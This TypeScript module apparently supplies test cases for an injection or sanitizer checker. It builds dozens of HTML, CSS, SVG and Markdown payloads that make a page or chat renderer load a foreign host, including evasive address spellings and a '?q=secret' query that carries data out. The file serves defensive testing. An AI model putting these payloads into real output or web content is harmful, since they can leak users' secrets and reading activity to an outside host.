import type { InjectionForm } from './injection-form.ts'

/** What loads something by itself; `@` is an address of the foreign host. */
const loading = [
  '<img src="@">',
  '<img srcset="@ 1x">',
  '<img src=x srcset="@ 2x, @ 1x" sizes=1px>',
  '<img src="@" loading=eager alt="x">',
  '<picture><source srcset="@"><img src=x></picture>',
  '<input type=image src="@">',
  '<video src="@" autoplay></video>',
  '<video poster="@"></video>',
  '<video><source src="@"></video>',
  '<video><track default kind=captions src="@"></video>',
  '<audio src="@" preload=auto></audio>',
  '<iframe src="@"></iframe>',
  '<iframe srcdoc="<img src=@>"></iframe>',
  '<embed src="@">',
  '<object data="@"></object>',
  '<script src="@"></script>',
  '<script type=module>import "@"</script>',
  '<script type=importmap>{"imports":{"react":"@"}}</script>',
  '<link rel=stylesheet href="@">',
  '<link rel=icon href="@">',
  '<link rel=manifest href="@">',
  '<link rel=prefetch href="@">',
  '<link rel=preconnect href="@">',
  '<link rel=dns-prefetch href="@">',
  '<link rel=modulepreload href="@">',
  '<link rel=preload as=image href="@">',
  '<script type=speculationrules>{"prefetch":[{"urls":["@"]}]}</script>',
  '<style>@import "@";</style>',
  '<style>@import url(@);</style>',
  '<style>*{background:url(@)}</style>',
  '<style>@font-face{font-family:x;src:url(@)}*{font-family:x}</style>',
  '<p style="background:url(@)">x</p>',
  '<p style="background-image:image-set(\'@\' 1x)">x</p>',
  '<p style="list-style:url(@);display:list-item">x</p>',
  '<p style="border-image:url(@) 1;border:1px solid">x</p>',
  '<p style="mask:url(@)">x</p>',
  '<p style="--x:url(@);background:var(--x)">x</p>',
  '<p style="cursor:url(@),auto">x</p>',
  '<body background="@">',
  '<table background="@"><tr><td background="@">x</table>',
  '<svg><image href="@" /></svg>',
  '<svg><use href="@#x" /></svg>',
  '<svg><filter id=f><feImage href="@" /></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  '<svg><rect fill="url(@#x)" width=9 height=9 /></svg>',
  '<svg><style>*{background:url(@)}</style></svg>',
  '<meta http-equiv=refresh content="0;url=@">',
  '<base href="@/">',
  '<frameset><frame src="@"></frameset>',
  '<a href="/" ping="@">x</a>',
  '<form action="@"><input name=x autofocus><button>x</button></form>',
]

/** Pictures as Markdown writes them, which tell a foreign host that somebody reads; `@` is the address. */
const markdownPictures = [
  '![](@)',
  '![x](@ "title")',
  '![x](<@>)',
  '![x][y]\n\n[y]: @',
  '![y]\n\n[y]: @ "title"',
  '[![x](@)](https://example.com)',
  '> ![x](@)',
  '- ![x](@)',
  '# ![x](@)',
  '**![x](@)**',
  '| a |\n| - |\n| ![x](@) |',
  'x[^1]\n\n[^1]: ![x](@)',
  '<details>\n\n![x](@)\n\n</details>',
  '![x](@',
  '$\\includegraphics{@}$',
  '```mermaid\ngraph TD; a["<img src=\'@\'>"]\n```',
]

/** Ways to write the same foreign address. */
const addresses = ['https://@/?q=secret', '//@/x', 'https:/@/x', '\\\\@\\x', 'HTTPS://@/X', 'http:@/x']

const write =
  (pattern: string, address: string): InjectionForm =>
  ({ host }) =>
    pattern.replaceAll('@', (sign, at: number) =>
      // A rule of a style sheet begins with the same sign.
      /^@(?:import|font)/.test(pattern.slice(at)) ? sign : address.replace('@', host),
    )

const [plain = ''] = addresses

export const foreignForms: InjectionForm[] = [
  ...[...loading, ...markdownPictures].map((pattern) => write(pattern, plain)),
  ...addresses.slice(1).flatMap((address) => [write('<img src="@">', address), write('![x](@)', address)]),
]
